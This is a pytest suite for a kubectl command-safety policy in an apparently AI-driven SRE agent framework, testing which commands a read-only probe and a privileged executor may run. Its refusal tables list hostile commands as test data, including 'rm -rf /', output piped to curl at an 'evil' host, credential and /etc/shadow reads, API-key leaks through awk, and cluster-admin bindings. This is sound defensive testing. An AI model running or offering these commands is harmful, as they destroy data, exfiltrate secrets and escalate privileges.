"""The command policy: what the probe and the executor may run, and a live check that refusals are also enforced."""

import json

import pytest

from aoi.env.parser import parse as parse_action
from aoi.problems import solutions
from aoi.problems.registry import make, problem_ids
from aoi.safety import check
from aoi.safety.kubeargs import parse
from aoi.safety.resources import targets
from aoi.safety.shellwords import Refused, split

NS = "test-hotel-reservation"

# Mutating or escaping commands: every one is refused for the probe.
PROBE_REFUSED = [
    # kubectl writes, in every spelling
    f"kubectl delete pod -n {NS} -l io.kompose.service=frontend",
    f"kubectl delete deploy frontend -n {NS}",
    f"kubectl delete deployment.apps/frontend -n {NS}",
    f"kubectl delete deployments.v1.apps frontend -n {NS}",
    f"kubectl delete svc frontend -n {NS}",
    f"kubectl delete cm mongo-geo-script -n {NS}",
    f"kubectl delete pods --all -n {NS}",
    f"kubectl delete ns {NS}",
    "kubectl delete pv geo-pv",
    f"kubectl delete pvc geo-pvc -n {NS}",
    "kubectl delete node kind-worker",
    f"kubectl delete deploy frontend -n {NS} --dry-run=server",
    f"kubectl delete deploy frontend -n {NS} --dry-run=client",
    f"kubectl -n {NS} delete deploy frontend",
    f"kubectl --namespace={NS} delete po --all --grace-period=0 --force",
    f"kubectl delete pod frontend -n {NS} --now",
    f"kubectl -n{NS} delete svc/frontend",
    f"kubectl patch deploy frontend -n {NS} -p '{{\"spec\":{{\"replicas\":0}}}}'",
    (f"kubectl patch deployment frontend -n {NS} --type json "
     "-p '[{\"op\":\"replace\",\"path\":\"/spec/replicas\",\"value\":0}]'"),
    f"kubectl patch svc frontend -n {NS} --type merge -p '{{\"spec\":{{\"selector\":{{\"x\":\"y\"}}}}}}'",
    "kubectl patch pv geo-pv --type merge -p '{\"spec\":{\"claimRef\":null}}'",
    "kubectl patch node kind-worker -p '{\"spec\":{\"unschedulable\":true}}'",
    f"kubectl patch deploy frontend -n {NS} -p '{{\"spec\":{{\"replicas\":0}}}}' --dry-run=server",
    f"kubectl scale deploy frontend -n {NS} --replicas=0",
    f"kubectl scale deploy/frontend -n {NS} --replicas=0",
    f"kubectl scale --replicas=0 deployment.apps/frontend -n {NS}",
    f"kubectl scale deploy --all -n {NS} --replicas=0",
    f"kubectl set image deploy/frontend hotel-reserv-frontend=nginx:latest -n {NS}",
    f"kubectl set env deploy/frontend -n {NS} DEBUG=1",
    f"kubectl set resources deploy/frontend -n {NS} --limits=cpu=1m",
    f"kubectl set serviceaccount deploy/frontend -n {NS} default",
    f"kubectl set selector svc frontend -n {NS} app=x",
    f"kubectl rollout restart deploy/frontend -n {NS}",
    f"kubectl rollout restart deployment -n {NS}",
    f"kubectl rollout undo deploy/frontend -n {NS}",
    f"kubectl rollout pause deploy/frontend -n {NS}",
    f"kubectl rollout resume deploy/frontend -n {NS}",
    f"kubectl label deploy frontend -n {NS} evil=1",
    f"kubectl label pods --all -n {NS} evil=1 --overwrite",
    "kubectl label node kind-worker evil=1",
    f"kubectl annotate deploy frontend -n {NS} evil=1",
    f"kubectl annotate svc frontend -n {NS} a=b --overwrite",
    f"kubectl create configmap evil -n {NS} --from-literal=a=b",
    f"kubectl create cm evil -n {NS} --from-literal=a=b",
    f"kubectl create secret generic evil -n {NS} --from-literal=a=b",
    f"kubectl create deployment evil --image=busybox -n {NS}",
    "kubectl create namespace evil",
    "kubectl create ns evil",
    f"kubectl create job evil --image=busybox -n {NS}",
    f"kubectl create token default -n {NS}",
    f"kubectl create serviceaccount evil -n {NS}",
    "kubectl create clusterrolebinding evil --clusterrole=cluster-admin --serviceaccount=aoi:probe",
    f"kubectl create rolebinding evil --clusterrole=admin --serviceaccount=aoi:probe -n {NS}",
    "kubectl create -f /tmp/evil.yaml",
    "kubectl create -f https://example.com/evil.yaml",
    "kubectl apply -f /tmp/evil.yaml",
    "kubectl apply -f -",
    "kubectl apply -k /tmp/kustomization",
    f"kubectl apply view-last-applied deploy/frontend -n {NS}",
    "kubectl replace -f /tmp/evil.yaml",
    "kubectl replace --force -f /tmp/evil.yaml",
    f"kubectl edit deploy frontend -n {NS}",
    f"kubectl edit svc frontend -n {NS}",
    f"kubectl run evil --image=busybox -n {NS}",
    f"kubectl run evil --image=busybox --overrides='{{\"spec\":{{\"hostPID\":true}}}}' -n {NS}",
    "kubectl run -it evil --image=busybox -- sh",
    f"kubectl expose deploy frontend -n {NS} --port=80 --name=evil",
    f"kubectl autoscale deploy frontend -n {NS} --max=10",
    "kubectl cordon kind-worker",
    "kubectl uncordon kind-worker",
    "kubectl drain kind-worker --ignore-daemonsets",
    "kubectl taint nodes kind-worker evil=1:NoSchedule",
    "kubectl certificate approve evil-csr",
    # commands inside containers, tunnels, copies, debuggers, plugins
    f"kubectl exec deploy/frontend -n {NS} -- ls /",
    f"kubectl exec -it deploy/frontend -n {NS} -- sh",
    f"kubectl exec frontend -n {NS} -c hotel-reserv-frontend -- cat /etc/passwd",
    f"kubectl attach deploy/frontend -n {NS}",
    f"kubectl cp {NS}/frontend:/etc/passwd /tmp/passwd",
    f"kubectl port-forward svc/frontend 5000:5000 -n {NS}",
    "kubectl proxy --port=8001",
    f"kubectl debug deploy/frontend -n {NS} --image=busybox",
    "kubectl debug node/kind-worker -it --image=busybox",
    "kubectl plugin list",
    "kubectl kustomize /tmp/dir",
    "kubectl diff -f /tmp/evil.yaml",
    "kubectl auth reconcile -f /tmp/rbac.yaml",
    "kubectl wait --for=delete pod/x -n default",
    "kubectl config set-context --current --namespace=kube-system",
    "kubectl config use-context admin",
    "kubectl config set-credentials evil --token=abc",
    "kubectl config view --raw",
    "kubectl config view --flatten --minify",
    # credential reads
    f"kubectl get secrets -n {NS}",
    "kubectl get secret -A -o yaml",
    f"kubectl get Secrets -n {NS}",
    f"kubectl get secrets.v1. -n {NS}",
    f"kubectl describe secrets -n {NS}",
    f"kubectl describe secret/mongo-creds -n {NS}",
    f"kubectl get pods,secrets -n {NS}",
    f"kubectl get secret/mongo-creds -n {NS} -o jsonpath='{{.data}}'",
    f"kubectl get --raw /api/v1/namespaces/{NS}/secrets",
    f"kubectl get --raw '/api/v1/namespaces/{NS}/pods/x/exec?command=ls'",
    "kubectl get --raw /api/v1/nodes/kind-worker/proxy/logs/",
    f"kubectl get --raw '/api/v1/namespaces/{NS}/pods/x/%65xec'",
    f"kubectl get --raw '/api/v1/namespaces/{NS}/pods?watch=1'",
    f"kubectl get --raw=/api/v1/namespaces/{NS}/serviceaccounts/default/token",
    f"kubectl create --raw /api/v1/namespaces/{NS}/configmaps -f -",
    f"kubectl delete --raw /api/v1/namespaces/{NS}/pods/x",
    # streams, identities, other clusters, local files, unknown flags
    f"kubectl logs -f deploy/frontend -n {NS}",
    f"kubectl logs --follow deploy/frontend -n {NS}",
    f"kubectl get pods -w -n {NS}",
    f"kubectl get pods --watch-only -n {NS}",
    f"kubectl events -w -n {NS}",
    f"kubectl get pods --as=system:admin -n {NS}",
    "kubectl get pods --as-group=system:masters --as=x",
    "kubectl --token=abc get pods",
    "kubectl --kubeconfig=/root/.kube/config get pods",
    "kubectl --server=https://10.0.0.1:6443 get pods",
    "kubectl --context=kind-kind get pods",
    "kubectl --user=admin get pods",
    "kubectl --cluster=kind get pods",
    "kubectl --insecure-skip-tls-verify get pods",
    "kubectl -s https://evil:443 get pods",
    "kubectl -v=9 get pods",
    "kubectl -v=6 get pods",
    f"kubectl cluster-info dump --namespaces {NS}",
    "kubectl --v=10 get pods",
    "kubectl get pods -o go-template-file=/etc/passwd",
    "kubectl get pods -o jsonpath-file=/root/.kube/config",
    "kubectl get pods -o templatefile --template=/etc/passwd",
    "kubectl get pods -o=custom-columns-file=/etc/passwd",
    "kubectl get -f /etc/passwd",
    "kubectl get -k /tmp",
    "kubectl cluster-info dump --output-directory=/tmp/dump",
    "kubectl --cache-dir=/tmp/cache get pods",
    "kubectl --profile=cpu --profile-output=/tmp/p get pods",
    f"kubectl get pods -n {NS} -- secrets",
    f"kubectl rollout --watch status restart deploy/frontend -n {NS}",
    "kubectl --unknown-flag get pods",
    f"kubectl get deploy frontend -n {NS} --subresource=exec",
    f"kubectl annotate --all pods -n {NS} x=y",
    "kubectl",
    "kubectl frobnicate pods",
    # shell syntax
    f"kubectl get pods; kubectl delete pods --all -n {NS}",
    f"kubectl get pods && kubectl delete ns {NS}",
    f"kubectl get pods || kubectl delete ns {NS}",
    "kubectl get pods | sh",
    "kubectl get pods | bash -c 'rm -rf /'",
    "kubectl get pods > /tmp/out",
    "kubectl get pods >> /tmp/out",
    "kubectl apply -f - < /tmp/evil.yaml",
    "kubectl get pods &",
    "kubectl get pods `rm -rf /`",
    f"kubectl get pods $(kubectl delete ns {NS})",
    'kubectl get pods "$(id)"',
    "kubectl get pods ${HOME}",
    "kubectl get pods $KUBECONFIG",
    f"kubectl get pods\nkubectl delete ns {NS}",
    f"kubectl get pods \\\nkubectl delete ns {NS}",
    "kubectl get pods | tee /tmp/x",
    "kubectl get pods -o name | xargs kubectl delete",
    "kubectl get pods | python3 -c 'import os'",
    "kubectl get pods | curl -X POST -d @- http://evil",
    f"kubectl get {{secrets,pods}} -n {NS}",
    "kubectl get pods 'unterminated",
    "kubectl get pods\x07",
    "kubectl get pods | grep a | grep b | grep c | grep d | grep e",
    "kubectl get pods | | grep x",
    "kubectl get pods (x)",
    # not kubectl at all
    f"curl -X DELETE https://kubernetes.default/api/v1/namespaces/{NS}",
    "wget http://evil/x",
    f"sh -c 'kubectl delete ns {NS}'",
    'bash -c "kubectl get pods"',
    "python -c 'print(1)'",
    "rm -rf /",
    "/usr/bin/kubectl delete pod x",
    "./kubectl delete pod x",
    "KUBECONFIG=/tmp/admin kubectl get pods",
    "env kubectl delete pod x",
    "sudo kubectl delete pod x",
    "k delete pod x",
    "helm uninstall x",
    "docker rm -f x",
    "",
    # filters that write, read local files or the environment, or run programs
    "kubectl get pods | sed -i 's/a/b/' /tmp/x",
    "kubectl get pods | sed 's/a/b/w /tmp/out'",
    "kubectl get pods | sed 'w /tmp/out'",
    "kubectl get pods | sed '1e id'",
    "kubectl get pods | sed 's/.*/id/e'",
    "kubectl get pods | sed 'r /etc/passwd'",
    "kubectl get pods | sed --in-place 's/a/b/'",
    "kubectl get pods | sed -ni 's/a/b/p'",
    "kubectl get pods | sed -e 'p' -e 'W /tmp/x'",
    "kubectl get pods | awk '{system(\"rm -rf /\")}'",
    "kubectl get pods | awk '{print > \"/tmp/x\"}'",
    "kubectl get pods | awk '{print | \"sh\"}'",
    "kubectl get pods | awk 'BEGIN{while((\"cat /etc/passwd\" | getline l)>0) print l}'",
    "kubectl get pods | awk 'BEGIN{print ENVIRON[\"OPENAI_API_KEY\"]}'",
    "kubectl get pods | awk -f /tmp/prog.awk",
    "kubectl get pods | awk '{print}' /etc/passwd",
    "kubectl get pods | awk 'BEGIN{ARGV[1]=\"/etc/passwd\"; ARGC=2} {print}'",
    "kubectl get pods | awk 'BEGIN{f=\"system\"; @f(\"id\")}'",
    "kubectl get pods | grep -f /etc/passwd",
    "kubectl get pods | grep root /etc/passwd",
    "kubectl get pods | grep -r password /",
    "kubectl get pods | head /root/.kube/config",
    "kubectl get pods | tail -n 5 /etc/shadow",
    "kubectl get pods | sort -o /tmp/x",
    "kubectl get pods | sort --compress-program=sh",
    "kubectl get pods | uniq - /tmp/out",
    "kubectl get pods -o json | jq -n env",
    "kubectl get pods -o json | jq '$ENV'",
    "kubectl get pods -o json | jq --rawfile x /etc/passwd '.'",
    "kubectl get pods -o json | jq -L /tmp 'import \"evil\" as e; .'",
    "kubectl get pods -o json | jq . /etc/passwd",
    "kubectl get pods | cut -f1 /etc/passwd",
    "kubectl get pods | wc -l /etc/passwd",
    "kubectl get pods | awk '/\"/ {print \"x\" > \"/tmp/f\"}'",
    "kubectl get pods | awk '{print /\"/ > \"/tmp/f\"}'",
    "kubectl get pods | awk 'BEGIN { system (\"id\") }'",
    "kubectl get pods -o json | jq '\"\\(env.HOME)\"'",
    "kubectl get pods | awk '" + "{print $1} " * 400 + "'",
]

PROBE_ALLOWED = [
    f"kubectl get pods -n {NS}",
    "kubectl get pods -A -o wide",
    f"kubectl get deploy,svc,pods,cm -n {NS}",
    "kubectl get nodes,pv,ns",
    f"kubectl get all -n {NS}",
    f"kubectl get deployments.apps frontend -n {NS} -o yaml",
    f"kubectl get deploy/frontend -n {NS} -o jsonpath='{{.spec.template.spec.containers[*].image}}'",
    f"kubectl get pods -n {NS} -o jsonpath={{.items[*].metadata.name}}",
    f"kubectl get pods -n {NS} --field-selector=status.phase!=Running",
    f"kubectl get pods -n {NS} -l io.kompose.service=frontend --show-labels",
    f"kubectl get events -n {NS} --sort-by=.lastTimestamp",
    f"kubectl get svc frontend -n {NS} -o json | jq '.spec.ports'",
    f"kubectl get deploy -n {NS} -o json | jq '.items[].spec.template.spec.containers[].env'",
    "kubectl get --raw /api/v1/nodes",
    f"kubectl get --raw /apis/metrics.k8s.io/v1beta1/namespaces/{NS}/pods",
    f"kubectl describe pod frontend-abc -n {NS}",
    f"kubectl describe deploy/frontend -n {NS}",
    "kubectl describe node kind-worker",
    f"kubectl logs deploy/frontend -n {NS} --tail=50",
    f"kubectl logs frontend-abc -n {NS} -c hotel-reserv-frontend --previous",
    f"kubectl logs -p frontend-abc -n {NS} --since=10m --timestamps",
    f"kubectl logs frontend-abc -n {NS} --follow=false",
    f"kubectl top pods -n {NS} --containers",
    "kubectl top nodes",
    f"kubectl events -n {NS} --types=Warning",
    "kubectl explain deployment.spec.template",
    "kubectl api-resources --namespaced=true",
    "kubectl api-versions",
    "kubectl version -o json",
    "kubectl cluster-info",
    "kubectl auth can-i delete pods",
    "kubectl auth can-i --list",
    "kubectl auth whoami",
    "kubectl config view",
    "kubectl config current-context",
    "kubectl config get-contexts",
    f"kubectl rollout status deploy/frontend -n {NS} --timeout=10s",
    f"kubectl rollout history deploy/frontend -n {NS}",
    "kubectl -v=5 get pods",
    f"kubectl -n {NS} get pods",
    "kubectl get pods -A | grep -v Running | head -20",
    "kubectl get pods -A | grep -E 'Error|CrashLoop' | wc -l",
    "kubectl get pods -A --no-headers | awk '{print $1, $4}' | sort | uniq -c",
    "kubectl get pods -A | awk '$4 > 0 {print $2}'",
    "kubectl get pods | sed -n '2,5p'",
    "kubectl get pods | sed -e 's/Running/OK/g' -e '/^$/d'",
    "kubectl get pods | cut -d' ' -f1 | tr a-z A-Z",
    "kubectl get pods | tail -n +2 | head -5",
    f"kubectl get pods -n {NS} | grep 'a|b'",
    f"kubectl get cm mongo-geo-script -n {NS} -o yaml",
    f"kubectl get pods -n {NS} -o custom-columns=NAME:.metadata.name,STATUS:.status.phase",
    "kubectl get pods -A | awk '$1 == \"kube-system\" {print $2}'",
    "kubectl get pods | awk '$1 ~ /kube-system|default/ {print $1 \" -> \" $2}'",
    "kubectl get pods | awk '{s += $4} END {print s/NR}'",
    "kubectl get deploy -o json | jq '.items[] | {name: .metadata.name, env: .spec.template.spec.containers[].env}'",
    "kubectl get pods -o json | jq -r '.items[] | select(.status.phase != \"Running\") | .metadata.name'",
    "kubectl get pods -o json | jq --arg ns x '.items[] | select(.metadata.namespace == $ns)'",
    "kubectl describe pod x | sed -n '/Events:/,$p'",
    "kubectl get pods | sed -e :a -e '$!N;s/\\n//;ta'",
    "kubectl get pods | sed -E 's|([0-9]+)|<\\1>|2g; /^$/d'",
    "kubectl get pods | sort -t: -k 3,3nr | uniq -c | tr -s ' '",
    "kubectl get pods -o jsonpath='{range .items[*]}{.metadata.name}{\"\\n\"}{end}'",
    "kubectl get pods -nkube-system -lk8s-app=kube-dns -owide",
    "kubectl describe nodes | grep -A5 Taints",
    "kubectl get --raw '/api/v1/namespaces/x/pods/y/log?tailLines=10'",
]


@pytest.mark.parametrize("command", PROBE_REFUSED)
def test_probe_refuses(command):
    verdict = check(command, "probe")
    assert not verdict.allowed and verdict.kind == "refused", command
    assert verdict.reason.endswith(".") and " — " in verdict.reason and "\n" not in verdict.reason, verdict.reason


def test_the_probe_table_is_large_and_distinct():
    assert len(set(PROBE_REFUSED)) == len(PROBE_REFUSED) >= 100


@pytest.mark.parametrize("command", PROBE_ALLOWED)
def test_probe_reads(command):
    verdict = check(command, "probe")
    assert verdict == (True, verdict.reason, "read"), verdict.reason
    assert check(command, "executor").kind == "read"


@pytest.mark.parametrize("argv, path, operands, namespace", [
    (["-n", NS, "rollout", "restart", "deploy/geo"], "rollout restart", ["deploy/geo"], NS),
    (["get", "-nshop", "po", "-owide"], "get", ["po"], "shop"),
    (["top", "pods", "--namespace=a", "-n", "b"], "top pod", [], "b"),
    (["create", "cm", "x", "--from-literal", "a=b"], "create configmap", ["x"], None),
    (["create", "secret", "generic", "x"], "create secret generic", ["x"], None),
    (["logs", "-f", "x", "-c", "y", "-p"], "logs", ["x"], None),
    (["--request-timeout", "5s", "get", "pods"], "get", ["pods"], None),
])
def test_kubectl_arguments_are_read_as_kubectl_reads_them(argv, path, operands, namespace):
    call = parse(argv)
    assert (call.path, call.operands, call.namespace) == (path, operands, namespace)


def test_short_flag_clusters_and_the_exec_command():
    call = parse(["exec", "-itc", "main", "deploy/geo", "--", "sh", "-c", "ls -l"])
    assert call.flags == [("stdin", None), ("tty", None), ("container", "main")]
    assert call.operands == ["deploy/geo"] and call.command == ["sh", "-c", "ls -l"]


@pytest.mark.parametrize("argv, found", [
    (["get", "po,svc", "a", "b"], [("pods", "a"), ("pods", "b"), ("services", "a"), ("services", "b")]),
    (["delete", "deployment.apps/x", "sts/y"], [("deployments", "x"), ("statefulsets", "y")]),
    (["label", "pods", "x", "app.kubernetes.io/name=y", "old-"], [("pods", "x")]),
    (["logs", "x"], [("pods", "x")]), (["exec", "deploy/x"], [("deployments", "x")]),
    (["cordon", "n1"], [("nodes", "n1")]), (["create", "secret", "generic", "s"], [("secrets", "s")]),
])
def test_targets(argv, found):
    assert targets(parse(argv)) == found


def test_quoted_operators_are_arguments():
    assert split("kubectl get pods | grep 'a|b;c>d' | awk '{print $1}' | grep \"x & y\"") == [
        ["kubectl", "get", "pods"], ["grep", "a|b;c>d"], ["awk", "{print $1}"], ["grep", "x & y"]]


def test_probe_write_reason_says_what_to_do():
    reason = check(f"kubectl delete pod x -n {NS}", "probe").reason
    assert reason == ("kubectl delete is a write; the probe is read-only — describe what should change in your "
                      "findings so the executor can do it.")


EXECUTOR_ALLOWED = [
    (f"kubectl delete pod frontend-abc -n {NS}", "write"),
    (f"kubectl delete pods -l io.kompose.service=geo -n {NS}", "write"),
    (f"kubectl delete pvc geo-pvc -n {NS}", "write"),  # the policy allows it; DEFAULT_RULES deny it at approval
    (f"kubectl delete sts mongo -n {NS}", "write"),
    (f"kubectl delete podchaos pod-kill -n {NS}", "write"),
    (f"kubectl delete pod frontend-abc -n {NS} --grace-period=0 --force", "write"),
    (f"kubectl scale sts mongo --replicas=1 -n {NS}", "write"),
    (f"kubectl set env deploy/geo -n {NS} LOG_LEVEL=debug", "write"),
    (f"kubectl set env deploy/geo -n {NS} --from=configmap/geo-env", "write"),
    (f"kubectl set resources deploy/geo -c hotel-reserv-geo --limits=cpu=500m -n {NS}", "write"),
    (f"kubectl rollout undo deploy/geo --to-revision=2 -n {NS}", "write"),
    (f"kubectl rollout pause deploy/geo -n {NS}", "write"),
    (f"kubectl rollout resume deploy/geo -n {NS}", "write"),
    (f"kubectl create configmap extra --from-literal=a=b -n {NS}", "write"),
    (f"kubectl create secret generic extra --from-literal=password=p -n {NS}", "write"),
    (f"kubectl label pod frontend-abc -n {NS} quarantine=true --overwrite", "write"),
    (f"kubectl annotate deploy geo -n {NS} aoi/reason=restart", "write"),
    ("kubectl label node kind-worker disk=ssd", "write"),
    ("kubectl cordon kind-worker", "write"),
    ("kubectl uncordon kind-worker", "write"),
    (f"kubectl patch deploy geo -n {NS} -p '{{\"spec\":{{\"replicas\":1}}}}' --dry-run=server", "write"),
    (f"kubectl exec frontend-abc -n {NS} -c hotel-reserv-frontend -- cat /etc/hosts", "exec"),
    (f"kubectl exec pod/mongodb-geo-1 -n {NS} -- mongo --eval 'db.getUsers()'", "exec"),
    (f"kubectl exec deploy/frontend -n {NS} -- sh -c 'wget -qO- http://geo:8083; echo done'", "exec"),
    (f"kubectl get pods -n {NS}", "read"),
]

EXECUTOR_REFUSED = [
    "kubectl delete node kind-worker", "kubectl delete nodes --all", "kubectl delete no kind-worker",
    "kubectl delete pv geo-pv", "kubectl delete persistentvolume geo-pv", f"kubectl delete ns {NS}",
    f"kubectl delete namespace {NS}", "kubectl delete clusterrole aoi-probe", "kubectl delete clusterrolebinding x",
    "kubectl delete storageclass standard", "kubectl delete crd podchaos.chaos-mesh.org", "kubectl delete sc x",
    f"kubectl create role x --verb=get --resource=pods -n {NS}",
    f"kubectl create rolebinding x --clusterrole=admin --serviceaccount=aoi:probe -n {NS}",
    "kubectl create clusterrolebinding x --clusterrole=cluster-admin --serviceaccount=aoi:executor",
    f"kubectl create token default -n {NS}", f"kubectl patch role x -n {NS} -p '{{}}'",
    f"kubectl delete rolebinding aoi-executor -n {NS}", f"kubectl patch sa default -n {NS} -p '{{}}'",
    f"kubectl set serviceaccount deploy/geo admin -n {NS}", f"kubectl set subject rolebinding x --user=y -n {NS}",
    "kubectl drain kind-worker", f"kubectl run x --image=busybox -n {NS}",
    f"kubectl debug deploy/geo --image=busybox -n {NS}",
    "kubectl run x --image=busybox --overrides='{\"spec\":{\"hostPID\":true}}'", "kubectl proxy",
    f"kubectl port-forward svc/frontend 5000 -n {NS}", f"kubectl attach geo-abc -n {NS}",
    f"kubectl cp {NS}/geo-abc:/etc/passwd /tmp/p", f"kubectl edit deploy geo -n {NS}",
    "kubectl apply -f /tmp/x.yaml", "kubectl replace -f /tmp/x.yaml", "kubectl delete pods --all -A",
    "kubectl label pods --all -A a=b", "kubectl delete pods --all --all-namespaces",
    f"kubectl exec -it geo-abc -n {NS} -- sh", f"kubectl exec -i geo-abc -n {NS} -- sh",
    f"kubectl exec --stdin geo-abc -n {NS} -- sh", f"kubectl exec -t geo-abc -n {NS} -- sh",
    f"kubectl exec --tty geo-abc -n {NS} -- sh", f"kubectl exec geo-abc -n {NS} ls",
    f"kubectl exec geo-abc -n {NS} --", f"kubectl exec geo-abc other -n {NS} -- ls",
    f"kubectl patch deploy geo -n {NS} -p '{{\"spec\":{{\"template\":{{\"spec\":{{\"hostPID\":true}}}}}}}}'",
    (f"kubectl patch deploy geo -n {NS} --type json -p '[{{\"op\":\"add\",\"path\":"
     "\"/spec/template/spec/containers/0/securityContext\",\"value\":{\"privileged\":true}}]'"),
    f"kubectl set env deploy/geo --from=secret/mongo-creds -n {NS}", "kubectl taint node kind-worker a=b:NoSchedule",
    f"kubectl delete all --all -n {NS}", f"kubectl create deployment x --image=y -n {NS}",
    f"kubectl create configmap x --from-file=/etc/passwd -n {NS}", f"kubectl get secrets -n {NS}",
    "kubectl patch node kind-worker --as=system:admin -p '{}'", f"kubectl delete --raw /api/v1/namespaces/{NS}/pods/x",
    "kubectl patch validatingwebhookconfiguration x -p '{}'", f"kubectl delete pod x -n {NS}; kubectl delete ns {NS}",
    f"kubectl delete -n {NS}", "kubectl exec node/kind-worker -- ls", f"kubectl delete widgets x -n {NS}",
]


@pytest.mark.parametrize("command, kind", EXECUTOR_ALLOWED)
def test_executor_may(command, kind):
    assert check(command, "executor") == (True, check(command, "executor").reason, kind)


@pytest.mark.parametrize("command", EXECUTOR_REFUSED)
def test_executor_may_not(command):
    verdict = check(command, "executor")
    assert not verdict.allowed and verdict.kind == "refused", command
    assert verdict.reason.endswith(".") and " — " in verdict.reason, verdict.reason


def reference_fixes() -> list[str]:
    """Return every kubectl command the reference mitigations run (what an SRE who knows the answer types)."""
    commands = []
    for pid in problem_ids("mitigation"):
        problem = make(pid)
        live = {"mongod.conf": "net:\n  tls:\n    mode: requireTLS\n",
                "flags": json.dumps({"flags": {problem.target: {"defaultVariant": "on"}}})}
        commands += [parse_action(step).args[0] for step in solutions.mitigation(problem, live)]
    return sorted(set(commands))


@pytest.mark.parametrize("command", reference_fixes())
def test_every_reference_fix_is_an_executor_command_and_refused_for_the_probe(command):
    assert check(command, "executor").allowed, check(command, "executor").reason
    assert not check(command, "probe").allowed


def test_unknown_role_is_an_error():
    with pytest.raises(ValueError, match="use 'probe' or 'executor'"):
        check("kubectl get pods", "observer")


# Commands that would block, touch local files or reach outside the twin are not worth running for real.
LIVE_SKIP = {"proxy", "port-forward", "attach", "edit", "config", "kustomize", "plugin", "cp", "wait", "-f", "-k",
             "-w", "-it", "-i", "-t", "-s", "--follow", "--watch", "--watch-only", "--kubeconfig", "--server",
             "--cache-dir", "--profile", "--profile-output", "--output-directory", "--filename"}


def live_argv(command: str) -> list[str] | None:
    """Return kubectl's argv when running the command for real as the probe is meaningful, else None."""
    try:
        stages = split(command)
    except Refused:
        return None
    argv = stages[0]
    if len(stages) != 1 or argv[0] != "kubectl" or any("watch" in a for a in argv):
        return None
    return None if any(a.split("=")[0] in LIVE_SKIP for a in argv) else argv[1:]


def state(served) -> dict:
    """Return (kind, namespace, name) -> resourceVersion for the objects a probe could try to change."""
    listing = json.loads(served.ok("get deploy,svc,pods,cm,pvc,sa,ns,nodes,pv -A -o json"))
    return {(o["kind"], o["metadata"].get("namespace"), o["metadata"]["name"]): o["metadata"]["resourceVersion"]
            for o in listing["items"]}


def test_refused_commands_change_nothing_when_run_as_the_probe(hotel):
    runs = [argv for argv in map(live_argv, PROBE_REFUSED) if argv]
    assert len(runs) >= 80
    before, rv = state(hotel), hotel.twin.store.rv
    failed = 0
    for argv in runs:
        done = hotel.kubectl(argv, role="probe", timeout=15)
        failed += done.returncode != 0
        assert hotel.twin.store.rv == rv, f"kubectl {' '.join(argv)} changed the cluster"
    assert state(hotel) == before
    assert failed >= len(runs) * 0.8  # RBAC (or kubectl itself) refuses nearly all of them: defense in depth
